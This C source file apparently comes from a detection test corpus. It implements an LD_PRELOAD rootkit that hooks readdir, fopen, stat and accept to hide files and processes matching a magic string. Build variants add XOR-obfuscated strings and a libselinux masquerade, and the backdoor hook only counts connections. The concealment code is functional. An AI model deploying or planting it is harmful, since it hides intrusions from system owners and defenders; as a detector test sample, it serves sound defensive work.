/*
 * Backsight corpus sample: preload/rootkit  (INERT - compiled only, never loaded)
 *
 * Shape of a userland LD_PRELOAD / ld.so.preload rootkit, written from the public
 * description of the technique: it exports libc's names (readdir, readdir64, fopen,
 * fopen64, the stat/lstat/__xstat/__lxstat family, accept), fetches the originals
 * with dlsym(RTLD_NEXT, ...) from a constructor in .init_array, and hides directory
 * entries and files whose name contains a magic string, or /proc/<pid> entries whose
 * cmdline contains it. The accept hook only counts "magic" connections.
 *
 * Built three ways by Corpus/build.sh:
 *   preload/rootkit             plain strings
 *   preload/rootkit-xor         -DBS_XOR_STRINGS: every string one-byte XOR encoded
 *   preload/selinux-masquerade  plain, SONAME/file name libselinux.so.1
 */
#define _GNU_SOURCE
#include "bs_api.h"
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "bs_strings.h"

#define MAGIC_PORT 40389

/* ---- strings ------------------------------------------------------------- */

#ifdef BS_XOR_STRINGS
__attribute__((noinline, noclone))
static const char *xs(const unsigned char *enc, size_t n, char *out)
{
	for (size_t i = 0; i < n; i++)
		out[i] = (char)(enc[i] ^ BS_XOR_KEY);
	out[n] = '\0';
	return out;
}
#define S(id, buf) xs(bs_##id, sizeof bs_##id, (buf))
#else
#define S(id, buf) ((void)(buf), bs_##id)
#endif

/* ---- originals ------------------------------------------------------------- */

static struct dirent *(*real_readdir)(DIR *);
static struct dirent64 *(*real_readdir64)(DIR *);
static FILE *(*real_fopen)(const char *, const char *);
static FILE *(*real_fopen64)(const char *, const char *);
static int (*real_stat)(const char *, struct stat *);
static int (*real_lstat)(const char *, struct stat *);
static int (*real_stat64)(const char *, struct stat64 *);
static int (*real_lstat64)(const char *, struct stat64 *);
static int (*real_xstat)(int, const char *, struct stat *);
static int (*real_lxstat)(int, const char *, struct stat *);
static int (*real_xstat64)(int, const char *, struct stat64 *);
static int (*real_lxstat64)(int, const char *, struct stat64 *);
static int (*real_accept)(int, __SOCKADDR_ARG, socklen_t *);

static unsigned long magic_connections;
static void *libc_handle;

static void *original(const unsigned char *enc_or_plain, size_t n)
{
	char name[32];
	const char *sym;
#ifdef BS_XOR_STRINGS
	sym = xs(enc_or_plain, n, name);
#else
	(void)n;
	(void)name;
	sym = (const char *)enc_or_plain;
#endif
	void *p = dlsym(RTLD_NEXT, sym);
	if (!p) {
		char lib[16];
		if (!libc_handle)
			libc_handle = dlopen(S(libc, lib), RTLD_LAZY);
		if (libc_handle)
			p = dlsym(libc_handle, sym);
	}
	return p;
}

#define ORIG(id) original((const unsigned char *)bs_##id, sizeof bs_##id)

__attribute__((constructor))
static void rk_init(void)
{
	char env[16];

	real_readdir   = ORIG(fn_readdir);
	real_readdir64 = ORIG(fn_readdir64);
	real_fopen     = ORIG(fn_fopen);
	real_fopen64   = ORIG(fn_fopen64);
	real_stat      = ORIG(fn_stat);
	real_lstat     = ORIG(fn_lstat);
	real_stat64    = ORIG(fn_stat64);
	real_lstat64   = ORIG(fn_lstat64);
	real_xstat     = ORIG(fn_xstat);
	real_lxstat    = ORIG(fn_lxstat);
	real_xstat64   = ORIG(fn_xstat64);
	real_lxstat64  = ORIG(fn_lxstat64);
	real_accept    = ORIG(fn_accept);
	/* Do not leak the preload into child processes. */
	unsetenv(S(ld_preload_env, env));
}

/* ---- hiding predicates ------------------------------------------------------ */

static int name_is_hidden(const char *name)
{
	char m[16], f[16];
	if (!name)
		return 0;
	return strstr(name, S(magic, m)) != NULL || strstr(name, S(preload_file, f)) != NULL;
}

static int pid_is_hidden(const char *name)
{
	char path[64], proc[8], cmd[8], m[16], buf[256];
	size_t n;

	for (const char *p = name; *p; p++)
		if (*p < '0' || *p > '9')
			return 0;
	if (!real_fopen)
		return 0;
	snprintf(path, sizeof path, "%s/%s/%s", S(proc, proc), name, S(cmdline, cmd));
	FILE *f = real_fopen(path, "r");
	if (!f)
		return 0;
	n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	for (size_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	buf[n] = '\0';
	return strstr(buf, S(magic, m)) != NULL;
}

static int entry_is_hidden(const char *name)
{
	return name_is_hidden(name) || pid_is_hidden(name);
}

/* ---- exported hooks ----------------------------------------------------------- */

BS_API struct dirent *readdir(DIR *dirp)
{
	struct dirent *e;
	if (!real_readdir)
		rk_init();
	do
		e = real_readdir(dirp);
	while (e && entry_is_hidden(e->d_name));
	return e;
}

BS_API struct dirent64 *readdir64(DIR *dirp)
{
	struct dirent64 *e;
	if (!real_readdir64)
		rk_init();
	do
		e = real_readdir64(dirp);
	while (e && entry_is_hidden(e->d_name));
	return e;
}

BS_API FILE *fopen(const char *path, const char *mode)
{
	if (!real_fopen)
		rk_init();
	if (name_is_hidden(path)) {
		errno = ENOENT;
		return NULL;
	}
	return real_fopen(path, mode);
}

BS_API FILE *fopen64(const char *path, const char *mode)
{
	if (!real_fopen64)
		rk_init();
	if (name_is_hidden(path)) {
		errno = ENOENT;
		return NULL;
	}
	return real_fopen64(path, mode);
}

#define HIDE_PATH(p)                \
	do {                        \
		if (name_is_hidden(p)) { \
			errno = ENOENT; \
			return -1;      \
		}                       \
	} while (0)

BS_API int stat(const char *restrict path, struct stat *restrict buf)
{
	HIDE_PATH(path);
	return real_stat ? real_stat(path, buf) : -1;
}

BS_API int lstat(const char *restrict path, struct stat *restrict buf)
{
	HIDE_PATH(path);
	return real_lstat ? real_lstat(path, buf) : -1;
}

BS_API int stat64(const char *restrict path, struct stat64 *restrict buf)
{
	HIDE_PATH(path);
	return real_stat64 ? real_stat64(path, buf) : -1;
}

BS_API int lstat64(const char *restrict path, struct stat64 *restrict buf)
{
	HIDE_PATH(path);
	return real_lstat64 ? real_lstat64(path, buf) : -1;
}

/* Pre-2.33 glibc entry points; no longer declared by the headers. */
BS_API int __xstat(int ver, const char *path, struct stat *buf);
BS_API int __lxstat(int ver, const char *path, struct stat *buf);
BS_API int __xstat64(int ver, const char *path, struct stat64 *buf);
BS_API int __lxstat64(int ver, const char *path, struct stat64 *buf);

BS_API int __xstat(int ver, const char *path, struct stat *buf)
{
	HIDE_PATH(path);
	return real_xstat ? real_xstat(ver, path, buf) : -1;
}

BS_API int __lxstat(int ver, const char *path, struct stat *buf)
{
	HIDE_PATH(path);
	return real_lxstat ? real_lxstat(ver, path, buf) : -1;
}

BS_API int __xstat64(int ver, const char *path, struct stat64 *buf)
{
	HIDE_PATH(path);
	return real_xstat64 ? real_xstat64(ver, path, buf) : -1;
}

BS_API int __lxstat64(int ver, const char *path, struct stat64 *buf)
{
	HIDE_PATH(path);
	return real_lxstat64 ? real_lxstat64(ver, path, buf) : -1;
}

BS_API int accept(int fd, __SOCKADDR_ARG addr, socklen_t *restrict len)
{
	if (!real_accept)
		rk_init();
	int s = real_accept ? real_accept(fd, addr, len) : -1;
	struct sockaddr_in *in = (struct sockaddr_in *)addr.__sockaddr__;
	if (s >= 0 && in && in->sin_family == AF_INET && ntohs(in->sin_port) == MAGIC_PORT)
		magic_connections++;   /* a real rootkit would hand this socket to its operator */
	return s;
}
